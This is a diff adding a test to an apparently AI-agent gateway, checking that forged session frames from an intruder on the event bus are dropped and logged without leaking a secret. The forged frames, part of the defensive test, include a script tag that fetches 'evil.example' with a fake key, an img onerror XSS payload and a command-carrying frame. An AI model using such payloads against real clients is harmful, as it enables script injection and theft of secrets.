@@ -11,13 +11,21 @@
 import type { EventBus } from '@oxydra/types';
 import { describe, expect, it } from 'vitest';
 import { ON_POSTGRES, openTestPostgres } from '../../store-postgres/test/test-store.js';
-import { sendTurn, shellThenReport, startTestGateway, TestClient, type TestGateway } from './helpers.js';
+import {
+  sendTurn,
+  shellThenReport,
+  startTestGateway,
+  TestClient,
+  type TestGateway,
+  type TestGatewayOptions,
+} from './helpers.js';
 
 /** A gateway of a deployment (on its own schema) and an intruder's bus beside it. */
 async function withIntruder(
   body: (env: TestGateway, intruder: EventBus, clients: TestClient[]) => Promise<void>,
+  options: TestGatewayOptions = {},
 ): Promise<void> {
-  const env = await startTestGateway({ config: { tools: { approval: 'ask' } } });
+  const env = await startTestGateway({ config: { tools: { approval: 'ask' } }, ...options });
   env.model.script = shellThenReport;
   const intruderStores = await openTestPostgres(env.schema);
   const intruder = await intruderStores.stores.openBus('intruder');
@@ -142,5 +150,56 @@ describe('hostile messages on the deployment bus', () => {
         ]);
         expect(started.type).toBe('turn_started');
       }),
+  );
+
+  it.skipIf(!ON_POSTGRES)(
+    'a forged session frame is dropped with one log line, never sent to the clients',
+    () => {
+      const logs: Array<{ message: string; fields: Record<string, unknown> | undefined }> = [];
+      return withIntruder(
+        async (gateway, intruder, clients) => {
+          const ann = await TestClient.hello(gateway.wsUrl, { user_id: 'ann' });
+          clients.push(ann.client);
+          const annSession = ann.ack.payload.session.session_id;
+          const secret = 'sk-forged-0123456789abcdef';
+          const forged = [
+            // Not JSON: a client's parser would choke on it.
+            `<script>fetch("https://evil.example/?${secret}")</script>`,
+            // A frame's opening, then a payload of the attacker's shape.
+            JSON.stringify({
+              type: 'text_delta',
+              payload: { html: `<img src=x onerror=alert(1)> ${secret}` },
+            }),
+            // A type the protocol has not, and a turn start without its turn.
+            JSON.stringify({ type: 'run_this', payload: { command: secret } }),
+            JSON.stringify({ type: 'turn_started', payload: { request_id: 'x', session: 7 } }),
+          ];
+          for (const frame of forged) {
+            await intruder.publish('session', JSON.stringify({ session_id: annSession, frame }));
+          }
+          // Same sender, in order: once the well-formed probe is here, the forged ones were handled.
+          const probe = { type: 'health_status', payload: { request_id: 'probe', healthy: true } };
+          await intruder.publish(
+            'session',
+            JSON.stringify({ session_id: annSession, frame: JSON.stringify(probe) }),
+          );
+          await ann.client.take('health_status', (frame) => frame.payload.request_id === 'probe', 20_000);
+
+          expect(ann.client.invalid).toEqual([]);
+          const dropped = logs.filter((line) => line.message.includes('malformed session frame'));
+          expect(dropped.map((line) => line.fields)).toEqual([
+            { type: 'unknown', bytes: Buffer.byteLength(forged[0]!) },
+            { type: 'text_delta', bytes: Buffer.byteLength(forged[1]!) },
+            { type: 'run_this', bytes: Buffer.byteLength(forged[2]!) },
+            { type: 'turn_started', bytes: Buffer.byteLength(forged[3]!) },
+          ]);
+          expect(JSON.stringify(logs)).not.toContain(secret);
+          // The session still works: a forged turn start did not lock it.
+          ann.client.send({ type: 'list_sessions', payload: { request_id: 'l' } });
+          expect((await ann.client.take('session_list')).payload.request_id).toBe('l');
+        },
+        { log: (_level, message, fields) => logs.push({ message, fields }) },
+      );
+    },
   );
 });
